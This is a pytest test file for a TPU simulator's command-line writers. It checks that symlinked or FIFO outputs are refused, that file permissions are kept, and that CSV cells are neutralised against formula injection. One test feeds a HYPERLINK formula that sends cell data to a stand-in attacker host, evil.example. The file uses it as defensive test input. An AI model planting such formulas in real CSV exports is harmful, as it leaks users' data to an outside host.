"""Writers replace only regular files (a symlink, FIFO or directory as --out is refused with one
line and left as it was), keep an existing file's permission bits, and CSV outputs neutralise
cells a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io
import os
import stat

import pandas as pd
import pytest

from tpusim._io import csv_safe, safe_cell

from .conftest import SCALESIM

TRACE = "name,op,m,k,n\nfc1,matmul,64,128,32\nfc2,matmul,64,32,16\n"
TOPOLOGY = SCALESIM / "topologies" / "conv_nets" / "Resnet18.csv"


def _trace(tmp_path):
    p = tmp_path / "t.csv"
    p.write_text(TRACE)
    return p


def _one_line_refusal(code, err, path):
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    assert str(path) in lines[0] and "regular file" in lines[0], lines[0]


def _symlink_to_victim(tmp_path, name):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    link = tmp_path / name
    link.symlink_to(victim)
    return victim, link


def _commands(tmp_path, target):
    """Each writing command with its --out pointing at ``target`` (or its directory)."""
    trace = _trace(tmp_path)
    return {
        "import scalesim": ["import", "scalesim", TOPOLOGY, "--out", target],
        "workload llm": ["workload", "llm", "gpt2", "--phase", "prefill", "--out", target],
        "roofline": ["roofline", "default", trace, "--out", target],
        "calibrate": ["calibrate", "default", tmp_path / "missing.csv", "--out", target],
    }


@pytest.mark.parametrize("cmd", ["import scalesim", "workload llm", "roofline", "calibrate"])
def test_out_symlink_is_refused_and_its_target_untouched(cli, tmp_path, cmd):
    # roofline's --out is its chart: .csv and .json are the names of the files beside it
    victim, link = _symlink_to_victim(tmp_path, "out.html" if cmd == "roofline" else "out.csv")
    code, _, err = cli(*_commands(tmp_path, link)[cmd])
    _one_line_refusal(code, err, link)
    assert link.is_symlink() and victim.read_text() == "precious"


@pytest.mark.parametrize("cmd", ["import scalesim", "workload llm", "roofline"])
def test_out_fifo_is_refused_without_blocking(cli, tmp_path, cmd):
    fifo = tmp_path / ("out.html" if cmd == "roofline" else "out.csv")
    os.mkfifo(fifo)
    code, _, err = cli(*_commands(tmp_path, fifo)[cmd])
    _one_line_refusal(code, err, fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.parametrize("name", ["layers.csv", "summary.json", "report.html", "config.yaml"])
def test_run_refuses_a_symlinked_output_and_writes_nothing(cli, tmp_path, name):
    out = tmp_path / "r"
    out.mkdir()
    victim, link = _symlink_to_victim(tmp_path, "r/" + name)
    code, _, err = cli("run", "default", _trace(tmp_path), "--out", out)
    _one_line_refusal(code, err, link)
    assert victim.read_text() == "precious" and link.is_symlink()
    assert {p.name for p in out.iterdir()} == {name}


def test_run_refuses_a_fifo_summary_without_blocking(cli, tmp_path):
    out = tmp_path / "r"
    out.mkdir()
    os.mkfifo(out / "summary.json")
    code, _, err = cli("run", "default", _trace(tmp_path), "--out", out)
    _one_line_refusal(code, err, out / "summary.json")


def test_formats_and_sweep_refuse_symlinked_outputs(cli, tmp_path):
    out = tmp_path / "f"
    out.mkdir()
    victim, link = _symlink_to_victim(tmp_path, "f/formats.csv")
    code, _, err = cli("formats", "default", "--out", out)
    _one_line_refusal(code, err, link)
    s = tmp_path / "s"
    s.mkdir()
    victim2 = tmp_path / "v2.csv"
    victim2.write_text("precious")
    (s / "sweep.csv").symlink_to(victim2)
    code, _, err = cli("sweep", "default", _trace(tmp_path), "--rows", "16", "--out", s)
    _one_line_refusal(code, err, s / "sweep.csv")
    assert victim.read_text() == victim2.read_text() == "precious"


def test_out_dir_that_is_a_file_is_one_line(cli, tmp_path):
    f = tmp_path / "afile"
    f.write_text("mine")
    code, _, err = cli("run", "default", _trace(tmp_path), "--out", f / "sub")
    assert code == 2 and len(err.strip().splitlines()) == 1 and "not a directory" in err
    assert f.read_text() == "mine"


def test_existing_files_keep_their_permission_bits(cli, tmp_path):
    trace = _trace(tmp_path)
    out = tmp_path / "r"
    assert cli("run", "default", trace, "--out", out)[0] == 0
    os.chmod(out / "layers.csv", 0o600)
    os.chmod(out / "summary.json", 0o640)
    assert cli("run", "default", trace, "--out", out)[0] == 0
    assert stat.S_IMODE(os.stat(out / "layers.csv").st_mode) == 0o600
    assert stat.S_IMODE(os.stat(out / "summary.json").st_mode) == 0o640
    target = tmp_path / "r18.csv"
    assert cli("import", "scalesim", TOPOLOGY, "--out", target)[0] == 0
    os.chmod(target, 0o604)
    assert cli("import", "scalesim", TOPOLOGY, "--out", target)[0] == 0
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o604


def test_formula_cells_are_neutralised_numbers_are_not():
    df = pd.DataFrame({"name": ["=1+1", "+x", "-y", "@z", "ok", None], "v": [-1.5, 2, 3, 4, 5, 6]})
    text = csv_safe(df).to_csv(index=False)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["name"] for r in rows] == ["'=1+1", "'+x", "'-y", "'@z", "ok", ""]
    assert rows[0]["v"] == "-1.5"
    assert safe_cell(-1.5) == -1.5 and safe_cell("a=b") == "a=b"


def test_layer_named_like_a_formula_is_text_in_layers_csv(cli, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerows([["name", "op", "m", "k", "n"], [evil, "matmul", 64, 128, 32],
                 ["@SUM(A1)", "matmul", 64, 32, 16]])
    trace = tmp_path / "evil.csv"
    trace.write_text(buf.getvalue())
    out = tmp_path / "r"
    code, _, err = cli("run", "default", trace, "--out", out, "--no-html")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO((out / "layers.csv").read_text())))
    assert [r["name"] for r in rows] == ["'" + evil, "'@SUM(A1)"]
    assert float(rows[0]["macs"]) == 64 * 128 * 32   # numbers stay numbers
    # roofline's table and a sweep's table too
    assert cli("roofline", "default", trace, "--out", tmp_path / "roof.html")[0] == 0
    assert "'=HYPERLINK" in (tmp_path / "roof.csv").read_text()
